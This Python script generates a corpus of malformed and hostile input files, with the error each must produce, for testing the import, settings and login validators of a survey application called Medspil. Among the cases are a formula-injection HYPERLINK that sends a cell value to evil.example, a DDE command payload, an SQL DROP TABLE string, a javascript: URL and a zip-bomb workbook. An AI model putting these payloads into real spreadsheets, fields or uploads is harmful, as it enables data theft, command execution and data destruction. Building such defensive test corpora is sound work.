"""Writes the bad-input corpus: every file below this folder and ``expected.toml``.

Run it after changing a case (``.venv/bin/python tests/corpus/make_corpus.py``) and commit what
it writes; the test (``tests/test_corpus.py``) reads the files, never this script. Each case is
(path, bytes, the catalogue key of the message it must give, why it is here).
"""

from __future__ import annotations

import io
import json
import zipfile
from pathlib import Path

HERE = Path(__file__).resolve().parent

UNIT_HEADER = "id,parent_id,name,type,headcount\r\n"
UNIT_ROOT = "KOMMUNE,,Korpus Kommune,kommune,0\r\n"


def units(*lines: str, header: str = UNIT_HEADER, root: bool = True) -> bytes:
    return (header + (UNIT_ROOT if root else "") + "".join(f"{x}\r\n" for x in lines)).encode()


LONG_HEADER = "wave_date,unit_id,respondent,item_id,value\n"


def long_rows(*lines: str) -> bytes:
    return (LONG_HEADER + "".join(f"{x}\n" for x in lines)).encode()


def _answers(respondents: int = 6, unit: str = "NORD-SOLHOJ", value: str = "4") -> list[str]:
    return [
        f"2020-03-02,{unit},r{r},{item},{value}"
        for r in range(respondents)
        for item in ("men1", "men2", "men3")
    ]


def _zip(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


_CONTENT_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" '
    b'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/>'
    b'<Override PartName="/xl/workbook.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    b'<Override PartName="/xl/worksheets/sheet1.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    b"</Types>"
)
_ROOT_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
)
_WORKBOOK = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    b'<sheets><sheet name="Dataset" sheetId="1" r:id="rId1"/></sheets></workbook>'
)
_WORKBOOK_RELS = (
    b'<?xml version="1.0" encoding="UTF-8"?>'
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    b'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
)


def _workbook(sheet: bytes) -> bytes:
    """A minimal XLSX with one sheet ``Dataset`` holding ``sheet`` (worksheet XML)."""
    return _zip(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "_rels/.rels": _ROOT_RELS,
            "xl/workbook.xml": _WORKBOOK,
            "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS,
            "xl/worksheets/sheet1.xml": sheet,
        }
    )


def zip_bomb_workbook() -> bytes:
    """About 100 kB on disk, 100 MB of worksheet XML when unpacked (a "zip bomb" within reason)."""
    head = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b"<sheetData>"
    )
    tail = b"</sheetData></worksheet>"
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in (
            ("[Content_Types].xml", _CONTENT_TYPES),
            ("_rels/.rels", _ROOT_RELS),
            ("xl/workbook.xml", _WORKBOOK),
            ("xl/_rels/workbook.xml.rels", _WORKBOOK_RELS),
        ):
            archive.writestr(name, data)
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as member:
            member.write(head)
            filler = b"<!--" + b"A" * (1024 * 1024 - 7) + b"-->"
            for _ in range(100):
                member.write(filler)
            member.write(tail)
    return buffer.getvalue()


def good_workbook() -> bytes:
    import openpyxl

    book = openpyxl.Workbook()
    book.active.title = "Dataset"
    book.active.append(["respondent", "enhed", "q1"])
    book.active.append([1, 1, 3])
    for title in ("Structure", "Labels"):
        book.create_sheet(title).append(["x"])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


BIDI = "\u202e"
LONG_MAPPING = (
    'format = 1\nproject = "medicin"\nsource = "long_csv"\n'
    '[wave]\nextend_first_phase = true\n[scale]\nmissing = ["6"]\n'
    '[[items]]\nvariable = "men1"\nitem = "men1"\n'
    '[[items]]\nvariable = "men2"\nitem = "men2"\n'
    '[[items]]\nvariable = "men3"\nitem = "men3"\n'
)


def _mapping_with(replace: str, by: str) -> bytes:
    assert replace in LONG_MAPPING, replace
    return LONG_MAPPING.replace(replace, by).encode()


Case = tuple[str, bytes, str, str]

CASES: list[Case] = [
    # --- units/: the organisation import (Organisation page, medspil import-units) ---------
    ("units/empty-file.csv", b"", "admin_units.problem_empty", "an empty upload"),
    ("units/bom-only.csv", b"\xef\xbb\xbf", "admin_units.problem_empty", "UTF-8 BOM, no text"),
    (
        "units/utf16-bom-then-odd-byte.csv",
        b"\xff\xfe" + "id,parent_id".encode("utf-16-le") + b"\x00",
        "admin_units.problem_encoding",
        "UTF-16 byte-order mark, then half a character",
    ),
    (
        "units/header-only.csv",
        UNIT_HEADER.encode(),
        "admin_units.problem_no_rows",
        "the right columns and no unit",
    ),
    (
        "units/wrong-columns.csv",
        b"navn;adresse;telefon\r\nPlejecenter Aaen;Aavej 1;12345678\r\n",
        "admin_units.problem_missing_column",
        "a contact list, not a unit tree",
    ),
    (
        "units/png-image-renamed.csv",
        b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00",
        "admin_units.problem_missing_column",
        "a picture with a .csv name",
    ),
    (
        "units/xlsx-renamed.csv",
        good_workbook(),
        "admin_units.problem_encoding",
        "an Excel workbook with a .csv name",
    ),
    (
        "units/cp1252-undefined-bytes.csv",
        UNIT_HEADER.encode() + b"A,,Enhed \x81\x8d\x8f\x90\x9d,enhed,3\r\n",
        "admin_units.problem_encoding",
        "bytes that are neither UTF-8 nor Windows-1252",
    ),
    (
        "units/huge-field.csv",
        units("A,KOMMUNE," + "x" * 140_000 + ",enhed,3"),
        "admin_units.problem_field_too_long",
        "a name over the CSV reader's field limit (131,072 characters)",
    ),
    (
        "units/unclosed-quote.csv",
        units('A,KOMMUNE,"Plejecenter Åen,enhed,3', "B,KOMMUNE,Hjemmeplejen,enhed,4"),
        "admin_units.problem_fields",
        "a quote that never closes swallows the rest of the file",
    ),
    (
        "units/formula-in-headcount.csv",
        units('A,KOMMUNE,Plejecenter Åen,enhed,"=1+1"', "B,KOMMUNE,Hjemmeplejen,enhed,@SUM(A1)"),
        "admin_units.problem_number",
        "spreadsheet formulas where a number belongs",
    ),
    (
        "units/formula-as-parent.csv",
        units('A,"=HYPERLINK(""http://evil.example/?""&A1,""Klik"")",Plejecenter Åen,enhed,3'),
        "admin_units.problem_parent",
        "a formula (formula injection) as the parent of a unit",
    ),
    (
        "units/headcount-over-int32.csv",
        units("A,KOMMUNE,Plejecenter Åen,enhed,2147483648"),
        "admin_units.problem_headcount",
        "a headcount the database's INTEGER cannot hold",
    ),
    (
        "units/headcount-superscript-digits.csv",
        units("A,KOMMUNE,Plejecenter Åen,enhed,²³"),
        "admin_units.problem_number",
        "digits that str.isdigit() accepts and int() does not",
    ),
    (
        "units/negative-headcount.csv",
        units("A,KOMMUNE,Plejecenter Åen,enhed,-5"),
        "admin_units.problem_number",
        "a negative headcount",
    ),
    (
        "units/id-only-control-characters.csv",
        units("\x1b\x0b\x07,KOMMUNE,Plejecenter Åen,enhed,3"),
        "admin_units.problem_empty_field",
        "an id of ESC, vertical tab and bell only (nothing left after cleaning)",
    ),
    (
        "units/id-only-zero-width.csv",
        units("\u200b\u200d\ufeff,KOMMUNE,Plejecenter Åen,enhed,3"),
        "admin_units.problem_empty_field",
        "an id of zero-width characters only",
    ),
    (
        "units/id-too-long.csv",
        units("A" * 65 + ",KOMMUNE,Plejecenter Åen,enhed,3"),
        "admin_units.problem_long_id",
        "an id over 64 characters",
    ),
    (
        "units/name-too-long.csv",
        units("A,KOMMUNE," + "Å" * 201 + ",enhed,3"),
        "admin_units.problem_long_name",
        "a name over 200 characters",
    ),
    (
        "units/cycle.csv",
        units("A,B,Enhed A,enhed,3", "B,A,Enhed B,enhed,4"),
        "admin_units.problem_cycle",
        "two units that are each other's parent",
    ),
    (
        "units/duplicate-id-bidi.csv",
        units(f"A{BIDI}B,KOMMUNE,Enhed,enhed,3", f"A{BIDI}B,KOMMUNE,Enhed igen,enhed,4"),
        "admin_units.problem_duplicate",
        "the same id twice, written with a right-to-left override",
    ),
    (
        "units/too-few-fields.csv",
        units("A,KOMMUNE,Plejecenter Åen"),
        "admin_units.problem_fields",
        "a line that stops after the name",
    ),
    (
        "units/semicolon-header-comma-rows.csv",
        b"id;parent_id;name;type;headcount\r\nKOMMUNE,,Korpus Kommune,kommune,0\r\n",
        "admin_units.problem_fields",
        "a header in Excel's Danish format and rows in another",
    ),
    # --- history/: earlier responses (Importér data page, medspil import-responses) --------
    ("history/empty.csv", b"", "import.problem_no_rows", "an empty long CSV"),
    (
        "history/wrong-columns.csv",
        b"dato,enhed,person,spoergsmaal,svar\n2020-03-02,NORD-SOLHOJ,1,men1,4\n",
        "import.problem_long_columns",
        "a long CSV with its own column names",
    ),
    (
        "history/utf16-without-bom.csv",
        LONG_HEADER.encode("utf-16-le"),
        "import.problem_encoding",
        "UTF-16 without its byte-order mark",
    ),
    (
        "history/huge-field.csv",
        long_rows("2020-03-02,NORD-SOLHOJ,r1,men1," + "4" * 140_000),
        "import.problem_csv",
        "a value over the CSV reader's field limit",
    ),
    (
        "history/value-outside-scale.csv",
        long_rows(*_answers(value="7")),
        "import.problem_out_of_scale",
        "answers of 7 on a five-point scale",
    ),
    (
        "history/formula-as-value.csv",
        long_rows(*_answers(value='"=HYPERLINK(""http://evil.example"")"')),
        "import.problem_out_of_scale",
        "a formula (formula injection) as every answer",
    ),
    (
        "history/formula-as-unit.csv",
        long_rows(*_answers(unit="\"=cmd|' /C calc'!A0\"")),
        "import.problem_unknown_unit",
        "a formula (DDE injection) as the unit",
    ),
    (
        "history/unknown-item.csv",
        long_rows("2020-03-02,NORD-SOLHOJ,r1,men9,4"),
        "import.problem_no_column",
        "answers to an item the mapping does not know, none to the mapped ones",
    ),
    (
        "history/repeated-answer.csv",
        long_rows("2020-03-02,NORD-SOLHOJ,r1,men1,4", "2020-03-02,NORD-SOLHOJ,r1,men1,5"),
        "import.problem_long_repeated",
        "one person answering one item twice",
    ),
    (
        "history/bad-date.csv",
        long_rows(*[a.replace("2020-03-02", "2020-02-30") for a in _answers()]),
        "import.problem_wave_value",
        "a date that does not exist",
    ),
    (
        "history/truncated-workbook.xlsx",
        good_workbook()[:700],
        "import.problem_not_workbook",
        "an Excel file cut short (an interrupted download)",
    ),
    (
        "history/csv-renamed.xlsx",
        long_rows(*_answers()),
        "import.problem_not_workbook",
        "a CSV file with an .xlsx name",
    ),
    (
        "history/workbook-without-structure.xlsx",
        _workbook(
            b'<?xml version="1.0" encoding="UTF-8"?>'
            b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
            b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>x</t></is></c></row>'
            b"</sheetData></worksheet>"
        ),
        "import.problem_missing_sheet",
        "a workbook with the Dataset sheet only",
    ),
    (
        "history/zip-bomb.xlsx",
        zip_bomb_workbook(),
        "import.problem_too_large",
        "a 100 kB workbook that unpacks to 100 MB",
    ),
    (
        "history/surveyxact-missing-labels/dataset.csv",
        b"respondent;enhed;q1\r\n1;1;3\r\n",
        "import.problem_missing_file",
        "a SurveyXact export with labels.csv missing (structure.csv beside it)",
    ),
    (
        "history/surveyxact-missing-labels/structure.csv",
        b"variable;question\r\nq1;Giver det mening?\r\n",
        "",
        "",
    ),
    (
        "history/surveyxact-truncated/dataset.csv",
        b'respondent;enhed;q1;kommentar\r\n1;1;3;"Vi mangler tid til opl',
        "import.problem_csv",
        "a SurveyXact dataset cut in the middle of a quoted comment",
    ),
    (
        "history/surveyxact-truncated/structure.csv",
        b"questionName;variableName;questionType;subType;questionText\r\n"
        b"q1;q1;Closed;Single;Giver det mening?\r\n",
        "",
        "",
    ),
    ("history/surveyxact-truncated/labels.csv", b"q1;1;Helt uenig\r\n", "", ""),
    # --- mappings/: a broken mapping with the good answers file partners/answers-long.csv --
    (
        "mappings/toml-syntax-error.toml",
        b'format = 1\nproject = "medicin\n',
        "import.mapping_toml",
        "a string that never closes",
    ),
    (
        "mappings/not-utf8.toml",
        'format = 1\nproject = "medicin"\n# Ældre Syd\n'.encode("cp1252"),
        "import.mapping_unreadable",
        "a mapping saved in Windows-1252",
    ),
    (
        "mappings/project-is-a-number.toml",
        _mapping_with('project = "medicin"', "project = 42"),
        "import.mapping_project",
        "a project id that is no text",
    ),
    (
        "mappings/unknown-project.toml",
        _mapping_with('project = "medicin"', 'project = "findes-ikke"'),
        "error.unknown_project",
        "a project that does not exist",
    ),
    (
        "mappings/items-not-a-list.toml",
        b'format = 1\nproject = "medicin"\nsource = "long_csv"\nitems = "men1"\n',
        "import.mapping_items_list",
        "items as a text instead of a list of tables",
    ),
    (
        "mappings/unknown-keys.toml",
        _mapping_with("[wave]", 'delete_everything = true\n[wave]\nmagic = "yes"'),
        "import.mapping_unknown_keys",
        "keys the mapping format does not have",
    ),
    (
        "mappings/points-out-of-range.toml",
        _mapping_with(
            '[scale]\nmissing = ["6"]', '[scale]\npoints = { "1" = 1, "2" = 99 }\nmissing = ["6"]'
        ),
        "import.mapping_points",
        "a scale point of 99",
    ),
    (
        "mappings/date-as-text.toml",
        _mapping_with("extend_first_phase = true", 'date = "i går"'),
        "import.mapping_dates",
        "a wave date written as words",
    ),
    (
        "mappings/future-format.toml",
        _mapping_with("format = 1", "format = 99"),
        "import.mapping_format",
        "a mapping format from a later version",
    ),
    # --- settings/: medspil.toml's settings (start-up, medspil check-access) ---------------
    (
        "settings/toml-syntax-error.toml",
        b"[medspil]\nk_min = = 5\n",
        "settings.problem_toml",
        "a TOML syntax error",
    ),
    (
        "settings/not-utf8.toml",
        '[medspil]\nbase_url = "https://medspil.kommune.dk" # Ældre\n'.encode("cp1252"),
        "settings.problem_encoding",
        "a settings file saved in Windows-1252",
    ),
    (
        "settings/utf16.toml",
        "[medspil]\nk_min = 5\n".encode("utf-16"),
        "settings.problem_encoding",
        "a settings file saved as UTF-16 (Notepad's 'Unicode')",
    ),
    (
        "settings/demo-flag-as-text.toml",
        b'[medspil]\nallow_demo_mode_on_network = "false"\n',
        "settings.problem_type",
        '"false" as a string switching demo mode on',
    ),
    (
        "settings/k-below-floor.toml",
        b"[medspil]\nk_min = 2\n",
        "settings.problem_range",
        "k below 3",
    ),
    (
        "settings/k-huge.toml",
        b"[medspil]\nk_comments = 99999999999999999999999999\n",
        "settings.problem_range",
        "a k no database integer holds",
    ),
    (
        "settings/k-as-float.toml",
        b"[medspil]\nk_min = 5.0\n",
        "settings.problem_type",
        "k as a decimal number",
    ),
    (
        "settings/misspelled-key.toml",
        b"[medspil]\nk_mni = 5\n",
        "settings.problem_unknown",
        "a misspelled key",
    ),
    (
        "settings/medspil-not-a-table.toml",
        b'medspil = "on"\n',
        "settings.problem_table",
        "[medspil] as a value instead of a table",
    ),
    (
        "settings/base-url-javascript.toml",
        b'[medspil]\nbase_url = "javascript:alert(1)"\n',
        "settings.problem_url",
        "a script address as the answer page's address",
    ),
    (
        "settings/nul-byte.toml",
        b"[medspil]\nk_min = 5\x00\n",
        "settings.problem_toml",
        "a NUL byte inside the file",
    ),
    # --- roles/: the [[access]] role file (login, medspil check-access) --------------------
    (
        "roles/unknown-role.toml",
        b'[[access]]\nemail = "a@kommune.dk"\nrole = "superadmin"\n',
        "access.problem_role",
        "a role Medspil does not have",
    ),
    (
        "roles/access-not-a-list.toml",
        b'access = "alle"\n',
        "access.problem_not_array",
        "access as a text instead of a list of entries",
    ),
    (
        "roles/neither-email-nor-group.toml",
        b'[[access]]\nrole = "administrator"\n',
        "access.problem_who",
        "an entry that names nobody",
    ),
    (
        "roles/email-without-at.toml",
        (
            '[[access]]\nemail = "leder\u202e\uff20kommune"\n'
            'role = "leder"\nunits = ["AELDRE-SYD"]\n'
        ).encode(),
        "access.problem_email",
        "an e-mail address with a full-width @ and a right-to-left override",
    ),
    (
        "roles/leder-without-units.toml",
        b'[[access]]\ngroup = "ledere"\nrole = "leder"\n',
        "access.problem_leder",
        "a leder who would see nothing (or, by mistake, everything)",
    ),
    (
        "roles/units-not-text.toml",
        b'[[access]]\nemail = "a@kommune.dk"\nrole = "leder"\nunits = [1, 2]\n',
        "access.problem_lists",
        "unit ids as numbers",
    ),
    (
        "roles/toml-syntax-error.toml",
        b"[[access]\nemail = 'a@kommune.dk'\n",
        "access.problem_toml",
        "a table header that never closes",
    ),
    # --- codes/: what a respondent types as the answer code (the answer page) --------------
    ("codes/empty.txt", b"", "error.invalid_code", "nothing typed"),
    ("codes/only-spaces.txt", "\u00a0\u2003 \t".encode(), "error.invalid_code", "spaces only"),
    (
        "codes/cyrillic-look-alikes.txt",
        "АВСDЕ-FGHJК".encode(),
        "error.invalid_code",
        "Cyrillic letters that look like Latin ones",
    ),
    (
        "codes/right-to-left-override.txt",
        f"{BIDI}ABCDE-FGHJK".encode(),
        "error.invalid_code",
        "a valid-looking code behind a right-to-left override",
    ),
    (
        "codes/emoji.txt",
        "ABCDE-FGHJ\U0001f600".encode(),
        "error.invalid_code",
        "an emoji in place of the last letter",
    ),
    (
        "codes/combining-marks.txt",
        "A\u0301BCDE-FGHJK".encode(),
        "error.invalid_code",
        "a combining accent on a letter",
    ),
    (
        "codes/sql-injection.txt",
        b"' OR 1=1; DROP TABLE invitations; --",
        "error.invalid_code",
        "SQL in the code field",
    ),
    ("codes/nul-byte.txt", b"ABCDE\x00FGHJK", "error.invalid_code", "a NUL byte inside"),
    (
        "codes/very-long.txt",
        b"ABCDE-FGHJK" * 10_000,
        "error.invalid_code",
        "110,000 characters",
    ),
    (
        "codes/unknown-but-well-formed.txt",
        b"ABCDE-FGHJK",
        "error.invalid_code",
        "a well-formed code that was never issued",
    ),
    (
        "codes/lone-surrogate-bytes.txt",
        b"ABCDE-\xed\xa0\x80FGHJ",
        "error.invalid_code",
        "bytes of a UTF-16 surrogate (not valid UTF-8)",
    ),
]

PARTNERS = {
    "partners/answers-long.csv": long_rows(*_answers()),
    "partners/mapping-long.toml": LONG_MAPPING.encode(),
}


def main() -> None:
    for path, data, _, _ in CASES:
        target = HERE / path
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_bytes(data)
    for path, data in PARTNERS.items():
        (HERE / path).parent.mkdir(parents=True, exist_ok=True)
        (HERE / path).write_bytes(data)
    lines = [
        "# Generated by make_corpus.py: each corpus file, the catalogue key of the message it",
        "# must give (the error's key or one of its problems' keys) and why it is here.",
        "",
    ]
    for path, _, key, why in CASES:
        if not key:
            continue  # a sibling file of a case (a SurveyXact export is three files)
        case = path.split("/")[0] + "/" + path.split("/")[1]
        why_text = json.dumps(why, ensure_ascii=False)
        lines += ["[[case]]", f'file = "{case}"', f'expect = "{key}"', f"why = {why_text}", ""]
    (HERE / "expected.toml").write_text("\n".join(lines), "utf-8")


if __name__ == "__main__":
    main()
